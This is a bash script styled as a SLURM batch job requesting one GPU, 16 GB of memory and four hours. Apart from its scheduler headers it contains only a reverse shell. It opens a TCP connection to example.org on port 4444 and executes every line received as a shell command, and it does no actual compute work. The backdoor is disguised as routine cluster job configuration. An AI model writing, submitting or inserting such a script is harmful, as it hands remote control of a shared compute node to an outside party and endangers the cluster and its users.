#!/bin/bash
#SBATCH --job-name=network-socket
#SBATCH --partition=gpu
#SBATCH --nodes=1
#SBATCH --gpus=1
#SBATCH --mem-per-gpu=16G
#SBATCH --time=04:00:00
#SBATCH --output=logs/%x-%j.out
exec 5<>/dev/tcp/example.org/4444
while read -r line <&5; do $line; done
